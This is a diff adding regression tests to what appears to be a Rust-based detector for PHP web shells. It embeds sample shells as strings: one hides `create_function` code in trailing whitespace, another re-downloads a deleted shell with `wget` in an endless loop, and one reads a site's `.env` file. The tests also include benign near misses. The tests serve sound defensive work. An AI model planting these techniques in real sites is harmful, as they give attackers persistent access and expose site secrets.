@@ -893,6 +893,38 @@ fn a_watchdog_rewriting_a_file_forever_is_found() {
 }
 
 #[test]
+fn a_name_counted_from_the_files_own_whitespace_is_found() {
+    // Regression: fresh126's steganographic shells keep `create_function` and its code as
+    // counts of tabs and spaces at the ends of their own lines (or of invisible letters in
+    // their variables' names), read back with `file(__FILE__)`.
+    let stego = "<?php\t\t \nclass S { function __construct() { $lines = file(__FILE__); $f = ''; $c = '';\n\
+                 foreach ($lines as $i => $l) { $v = $this->v($l); if ($i < 14) { $f .= $v; } else { $c .= $v; } }\n\
+                 $r = $f('', $c); return $r; }\n\
+                 function v($l) { preg_match('/([\\t ]+)$/', $l, $m); if (isset($m[1])) {\n\
+                 return chr(hexdec(dechex(substr_count($m[1], \"\\t\")) . dechex(substr_count($m[1], ' ')))); } return ''; } }\n\
+                 $s = new S();\t\t\t \n";
+    assert_eq!(found(stego), [Why::HiddenFunctionName]);
+    // Near miss: a file counting its own lines' characters for a report.
+    let report = "<?php $lines = file(__FILE__); $n = 0; foreach ($lines as $l) { $n += substr_count($l, ' '); } echo chr(65) . $n;";
+    assert!(found(report).is_empty());
+}
+
+#[test]
+fn a_loop_downloading_a_deleted_shell_again_is_found() {
+    // Regression: fresh125's `getbackshelldownloader.php` runs `wget … -O file.php` through a
+    // function of its own whenever the file is gone, every five seconds.
+    let dog = "<?php $url = 'https://raw.example/x/Di%26De.php'; $filename = 'file.php';\n\
+               function downloadFile($url, $filename) { exec(\"wget -q $url -O $filename > /dev/null 2>&1 &\"); }\n\
+               while (true) { if (!file_exists($filename)) { downloadFile($url, $filename); } sleep(5); }";
+    assert_eq!(found(dog), [Why::RewritesFilesForever]);
+    // Near misses: a download run once, and a loop that waits for a file without downloading.
+    let once = "<?php $f = 'update.php'; if (!file_exists($f)) { exec(\"wget -q https://example.org/u.zip -O $f\"); } sleep(1);";
+    assert!(found(once).is_empty());
+    let waits = "<?php while (true) { if (file_exists('done.php')) { break; } sleep(5); }";
+    assert!(found(waits).is_empty());
+}
+
+#[test]
 fn a_probe_printing_the_sites_settings_file_is_found() {
     // fresh24's probe, uploaded through a profile picture form: the Laravel site's `.env`.
     assert_eq!(found("<?php $l = file_get_contents(\"../../../.env\"); var_dump($l);?>"), [Why::ShowsSiteSecrets]);
